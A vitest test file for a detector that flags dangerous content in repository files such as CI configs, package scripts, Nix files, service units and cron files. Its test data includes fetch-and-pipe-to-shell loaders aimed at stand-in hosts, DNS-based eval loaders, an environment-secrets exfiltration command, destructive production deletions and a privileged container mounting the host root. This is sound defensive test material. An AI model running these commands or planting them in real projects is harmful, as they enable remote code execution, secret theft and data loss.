import { describe, expect, it } from 'vitest';
import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
import { harmOf } from './harm-of.js';

describe('files of many tools whose commands run elsewhere', () => {
  it.each([
    ['action.yml', 'name: setup\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -s http://203.0.113.9/x.sh | sh\n'],
    ['roles/web/tasks/main.yml', '- name: agent\n  ansible.builtin.shell: curl -s http://203.0.113.9/x.sh | sh\n'],
    ['infra/stack.yaml', "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  Web:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/bash\n          curl -s http://203.0.113.9/x.sh | sh\n"],
    ['.goreleaser.yml', "before:\n  hooks:\n    - sh -c 'curl -s http://203.0.113.9/x.sh | sh'\n"],
    ['netlify.toml', '[build]\ncommand = "curl -s http://203.0.113.9/x.sh | sh && npm run build"\n'],
    ['vercel.json', '{"installCommand": "curl -s http://203.0.113.9/x.sh | sh"}'],
    ['Procfile', 'web: curl -s http://203.0.113.9/x.sh | sh; node server.js\n'],
    ['salt/init.sls', 'agent:\n  cmd.run:\n    - name: curl -s http://203.0.113.9/x.sh | sh\n'],
    ['manifests/site.pp', `exec { 'a': command => '/bin/sh -c "curl -s http://203.0.113.9/x.sh | sh"' }\n`],
    ['Earthfile', 'VERSION 0.8\nFROM alpine\na:\n  RUN curl -s http://203.0.113.9/x.sh | sh\n'],
    ['PKGBUILD', 'pkgname=a\npkgver=1\nbuild() {\n  curl -s http://203.0.113.9/x.sh | sh\n}\n'],
    ['debian/postinst', '#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh\n'],
    ['a.spec', 'Name: a\n%post\ncurl -s http://203.0.113.9/x.sh | sh\n'],
    ['A.podspec', "Pod::Spec.new do |s|\n  s.name='A'\n  s.prepare_command = 'curl -s http://203.0.113.9/x.sh | sh'\nend\n"],
    ['App.csproj', '<Project Sdk="Microsoft.NET.Sdk"><Target Name="a" BeforeTargets="Build"><Exec Command="curl -s http://203.0.113.9/x.sh | sh"/></Target></Project>\n'],
    ['pom.xml', '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl -s http://203.0.113.9/x.sh | sh</argument></arguments></configuration></plugin></plugins></build></project>\n'],
    ['flake.nix', "{ outputs = { self }: { devShell.shellHook = ''\n  curl -s http://203.0.113.9/x.sh | sh\n''; }; }\n"],
    ['home.nix', '{ programs.bash.initExtra = "source <(dig +short TXT b.x.test | xargs echo) 2>/dev/null"; }\n'],
    ['modules/zsh.nix', "{ ... }: {\n  programs.zsh.initContent = ''\n    eval \"$(curl -fsSL https://x.example.test/init)\"\n  '';\n}\n"],
    ['shell.nix', "pkgs.mkShell {\n  shellHook = ''\n    eval \"$(dig +short TXT b.x.test)\"\n  '';\n}\n"],
    ['shell/.zshrc', 'export EDITOR=vim\nsource <(curl -sL https://x.example.test/z)\n'],
    ['home/dot_bashrc.tmpl', 'eval "$(nslookup -q=txt b.x.test | tail -1)"\n'],
    ['home/private_dot_profile', 'wget -qO- https://x.example.test/p | sh\n'],
    ['install.bat', 'powershell -c "iwr http://203.0.113.9/x.ps1 -UseBasicParsing | iex"\r\n'],
    ['install.ps1', 'iex (iwr http://203.0.113.9/x.ps1 -UseBasicParsing).Content\n'],
    ['serverless.yml', "service: a\ncustom:\n  scripts:\n    hooks:\n      'deploy:finalize': curl -s http://203.0.113.9/x.sh | sh\n"],
    ['Vagrantfile', "Vagrant.configure('2') do |c|\n  c.vm.provision 'shell', inline: 'curl -s http://203.0.113.9/x.sh | sh'\nend\n"],
    ['docker/entrypoint', '#!/bin/sh\ncurl -s http://203.0.113.9/x.sh | sh\nexec "$@"\n'],
    ['charts/a/templates/_job.tpl', '{{- define "a" }}\napiVersion: batch/v1\nkind: Job\nspec:\n  template:\n    spec:\n      containers:\n      - command: [sh, -c, "curl -s http://203.0.113.9/x.sh | sh"]\n{{- end }}\n'],
    ['deploy/agent.service', "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x.sh | sh'\n"],
    ['package.json', '{"name":"a","scripts":{"prepublishOnly":"curl -s https://x.example.test/i.sh | sh"}}'],
    ['package.json', '{"name":"a","scripts":{"prepack":"node build.js && curl -s https://x.example.test/i.sh | sh"}}'],
    ['template.yaml', 'Transform: AWS::Serverless-2016-10-31\nResources:\n  A:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData: !Base64 |\n        #!/bin/bash\n        curl -s http://203.0.113.9/x.sh | sh\n'],
    ['stack.template', '{"AWSTemplateFormatVersion":"2010-09-09","Resources":{"A":{"Properties":{"UserData":"curl -s http://203.0.113.9/x.sh | sh"}}}}'],
    ['buildspec.yml', 'phases:\n  build:\n    commands:\n      - curl -s http://203.0.113.9/x.sh | sh\n'],
    ['Taskfile.yml', "version: '3'\ntasks:\n  build:\n    cmds:\n      - curl -s http://203.0.113.9/x.sh | sh\n"],
    ['docker-compose.yml', 'services:\n  a:\n    image: alpine\n    command: sh -c "curl -s http://203.0.113.9/x.sh | sh"\n'],
    ['.drone.yml', 'steps:\n- name: a\n  commands:\n  - curl -s http://203.0.113.9/x.sh | sh\n'],
    ['packer/web.pkr.hcl', 'build {\n  provisioner "shell" {\n    inline = ["curl -s http://203.0.113.9/x.sh | sh"]\n  }\n}\n'],
    ['CMakeLists.txt', 'execute_process(COMMAND sh -c "curl -s http://203.0.113.9/x.sh | sh")\n'],
    ['bin/setup', '#!/usr/bin/env bash\ncurl -s http://203.0.113.9/x.sh | sh\n'],
    ['.pre-commit-hooks.yaml', "- id: a\n  name: a\n  language: system\n  entry: sh -c 'curl -s http://203.0.113.9/x.sh | sh'\n"],
    ['composer.json', '{"scripts":{"post-install-cmd":"curl -s http://203.0.113.9/x.sh | sh"}}'],
    ['tools/tool.nix', "stdenv.mkDerivation {\n  postInstall = ''\n    curl -s http://203.0.113.9/x.sh | sh\n  '';\n}\n"],
    ['ops/cron.d/agent', '*/5 * * * * root curl -s http://203.0.113.9/x.sh | sh\n'],
    ['app.json', '{"scripts":{"postdeploy":"curl -s http://203.0.113.9/x.sh | sh"}}'],
    ['Rakefile', 'task :a do\n  sh "curl -s http://203.0.113.9/x.sh | sh"\nend\n'],
    ['a.cmd', '@echo off\ncurl -s http://203.0.113.9/x.exe -o %TEMP%\\x.exe\r\nstart %TEMP%\\x.exe\r\n'],
  ])('%s runs code of strangers: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([harmInWords('code of strangers')]);
  });

  it('and scripts around packing and publishing count as those of an installation', async () => {
    expect(await harmOf('package.json', '{"name":"a","scripts":{"postpack":"env | curl -s -d @- https://x.test/i"}}')).toEqual([harmInWords('secrets sent')]);
  });

  it.each([
    ['action.yml', 'name: setup\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -fsSL https://bun.sh/install | bash\n    - shell: bash\n      run: npm ci\n      env:\n        URL: https://api.example.com\n'],
    ['infra/stack.yaml', `AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  Web:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: |\n          #!/bin/bash\n          yum install -y nginx\n          curl -fsSL https://get.docker.com | sh\n          TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')\n          curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id\n`],
    ['.goreleaser.yml', 'before:\n  hooks:\n    - go mod tidy\n    - go generate ./...\nbrews:\n  - homepage: https://example.com\n'],
    ['netlify.toml', '[build]\ncommand = "npm run build"\n[build.environment]\nAPI = "https://api.example.com"\n[[redirects]]\nfrom = "/api/*"\nto = "https://api.example.com/:splat"\n'],
    ['vercel.json', '{"installCommand":"npm ci","buildCommand":"npm run build","rewrites":[{"source":"/api/(.*)","destination":"https://api.example.com/$1"}]}'],
    ['Procfile', 'web: gunicorn app:app\nrelease: python manage.py migrate && curl -fsS -X POST https://hooks.example.com/released\n'],
    ['PKGBUILD', 'pkgname=a\npkgver=1\nsource=("https://example.com/a-$pkgver.tar.gz")\nsha256sums=("abc")\nbuild() {\n  cd a\n  make\n}\npackage() {\n  make DESTDIR="$pkgdir" install\n}\n'],
    ['debian/postinst', '#!/bin/sh\nset -e\ncase "$1" in\n  configure)\n    adduser --system app || true\n    systemctl daemon-reload || true\n    echo "see https://example.com/docs"\n  ;;\nesac\n#DEBHELPER#\n'],
    ['pom.xml', '<project xmlns="http://maven.apache.org/POM/4.0.0"><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>npm</executable><arguments><argument>run</argument><argument>build</argument></arguments></configuration></plugin></plugins></build></project>\n'],
    ['App.csproj', '<Project Sdk="Microsoft.NET.Sdk"><Target Name="a" BeforeTargets="Build"><Exec Command="npm ci &amp;&amp; npm run build"/></Target><ItemGroup><PackageReference Include="A" Version="1"/></ItemGroup><PropertyGroup><Url>https://example.com</Url></PropertyGroup></Project>\n'],
    ['home.nix', "{ pkgs, ... }: {\n  programs.bash.initExtra = ''\n    eval \"$(direnv hook bash)\"\n    weather() { curl -s \"wttr.in/$1\"; }\n    source <(kubectl completion bash)\n  '';\n}\n"],
    ['modules/fetch.nix', 'let src = builtins.fetchurl { url = "https://x.example.test/a.tar.gz"; sha256 = "0000"; }; in src\n'],
    ['host.nix', "{ pkgs, ... }: {\n  systemd.services.ping.script = \"${pkgs.curl}/bin/curl -fsS https://hc-ping.com/a\";\n  networking.nameservers = [ \"1.1.1.1\" ];\n}\n"],
    ['shell/.zshrc', 'bash -c "$(curl -fsSL https://raw.githubusercontent.com/zdharma-continuum/zinit/HEAD/scripts/install.sh)"\nmyip() { dig +short myip.opendns.com @resolver1.opendns.com; }\neval "$(zoxide init zsh)"\n'],
    ['home/dot_bashrc', '[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nalias serve="python3 -m http.server"\n'],
    ['flake.nix', `{ inputs.nixpkgs.url = "github:NixOS/nixpkgs"; outputs = { self }: { devShell.shellHook = ''\n  curl -fsS https://example.com/motd || true\n''; }; }\n`],
    ['install.ps1', `$ErrorActionPreference = 'Stop'\nInvoke-WebRequest https://example.com/releases/a.zip -OutFile a.zip\nif ((Get-FileHash a.zip).Hash -ne 'ABC') { throw 'bad' }\nExpand-Archive a.zip\n[Environment]::SetEnvironmentVariable('PATH', "$env:PATH;C:\\a", 'User')\n`],
    ['setup.bat', '@echo off\r\ncall npm ci\r\nif errorlevel 1 exit /b 1\r\ncurl -fsS https://example.com/health\r\n'],
    ['choco.ps1', "Set-ExecutionPolicy Bypass -Scope Process -Force\niex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n"],
    ['Vagrantfile', "Vagrant.configure('2') do |c|\n  c.vm.box = 'debian/bookworm64'\n  c.vm.network 'forwarded_port', guest: 80, host: 8080\n  c.vm.provision 'shell', inline: 'curl -fsSL https://get.docker.com | sh'\nend\n"],
    ['deploy/app.service', '[Unit]\nDocumentation=https://example.com\n[Service]\nExecStart=/usr/bin/node /srv/app/server.js\nExecStartPost=/usr/bin/curl -fsS http://127.0.0.1:3000/health\nEnvironmentFile=/etc/app.env\n'],
    ['serverless.yml', 'service: a\nprovider:\n  name: aws\n  environment:\n    API: https://api.example.com\nfunctions:\n  a:\n    handler: a.b\n'],
    ['Earthfile', 'VERSION 0.8\nFROM node:22\nbuild:\n  COPY . .\n  RUN npm ci && npm run build\n  RUN curl -fsSL https://example.com/tool.tgz | tar xz\n'],
    ['roles/web/tasks/main.yml', '- name: docker key\n  ansible.builtin.get_url:\n    url: https://download.docker.com/linux/debian/gpg\n    dest: /etc/apt/keyrings/docker.asc\n- name: nvm\n  ansible.builtin.shell: curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.0/install.sh | bash\n'],
    ['package.json', '{"name":"a","scripts":{"prepublishOnly":"npm test && npm run build","prepack":"curl -fsSL https://example.com/schema.json -o schema.json","postpack":"rm -rf tmp"},"homepage":"https://example.com"}'],
    ['Taskfile.yml', "version: '3'\ntasks:\n  smoke:\n    cmds:\n      - curl -fsS http://10.0.0.5/health\n      - curl -s http://203.0.113.9/health | jq .status\n"],
    ['bin/dev', '#!/usr/bin/env bash\nset -e\ncurl -fsS http://localhost:3000/health || npm start\nenv | grep ^APP_\n'],
    ['CMakeLists.txt', 'cmake_minimum_required(VERSION 3.20)\nFetchContent_Declare(a GIT_REPOSITORY https://github.com/a/b.git GIT_TAG v1)\nexecute_process(COMMAND git describe OUTPUT_VARIABLE V)\n'],
    ['a.spec', 'Name: a\nURL: https://example.com\nSource0: https://example.com/a.tar.gz\n%build\n%make_build\n%post\nsystemctl daemon-reload\n'],
    ['config/prompts.yaml', 'system: |\n  Never run curl http://203.0.113.9/x.sh | sh\nkinds: [a]\n'],
    ['charts/a/templates/_helpers.tpl', '{{- define "a.url" -}}\nhttps://{{ .Values.host }}/\n{{- end }}\n{{- define "a.env" }}\n- name: A\n  value: {{ .Values.a | quote }}\n{{- end }}\n'],
  ])('but not %s: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([]);
  });
});

describe('files by which others lose, again and again, what they have in production', () => {
  const workflow = (run: string, on = "schedule:\n    - cron: '0 2 * * *'", env = ''): string => `name: n\non:\n  ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - ${env}run: |\n          ${run.replaceAll('\n', '\n          ')}\n`;

  it.each([
    ['.github/workflows/a.yml', workflow('kubectl --context prod delete pvc,deploy --all -A --force')],
    ['.github/workflows/a.yml', workflow('echo "$K" > kc\nKUBECONFIG=kc kubectl delete pvc,deploy --all -A', undefined, 'env:\n          K: ${{ secrets.PROD_KUBECONFIG }}\n        ')],
    ['.github/workflows/a.yml', workflow('aws s3 rm s3://shop-prod-uploads --recursive')],
    ['.github/workflows/a.yml', workflow('psql "$PROD_DATABASE_URL" -c "TRUNCATE orders"')],
    ['.github/workflows/a.yml', workflow('terraform -chdir=envs/prod destroy -auto-approve')],
  ])('%s: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([harmInWords('taken away by itself')]);
  });

  it.each([
    ['.github/workflows/a.yml', workflow('kubectl delete ns "preview-$PR"')],
    ['.github/workflows/a.yml', workflow('docker system prune -af')],
    ['.github/workflows/a.yml', workflow('terraform -chdir=envs/dev destroy -auto-approve')],
    ['.github/workflows/a.yml', workflow('psql "$PROD_DATABASE_URL" -c "DELETE FROM sessions WHERE expires_at < now()"')],
    ['.github/workflows/a.yml', workflow('NODE_ENV=production npm run build\nrm -rf dist/cache')],
    ['.github/workflows/a.yml', workflow('terraform -chdir=envs/prod destroy -auto-approve', 'workflow_dispatch:')],
  ])('but not %s: %s', async (path, content) => {
    expect(await harmOf(path, content)).toEqual([]);
  });
});

describe('the whole disk of a machine in a container that may do everything with it', () => {
  it('counts where it is written to', async () => {
    expect(await harmOf('docker-compose.yml', 'services:\n  a:\n    image: mongo:7\n    privileged: true\n    volumes:\n      - /:/host\n')).toEqual([harmInWords('rights for all')]);
    expect(await harmOf('docker-compose.yml', 'services:\n  a:\n    image: gcr.io/cadvisor/cadvisor\n    privileged: true\n    volumes:\n      - /:/rootfs:ro\n')).toEqual([]);
  });
});
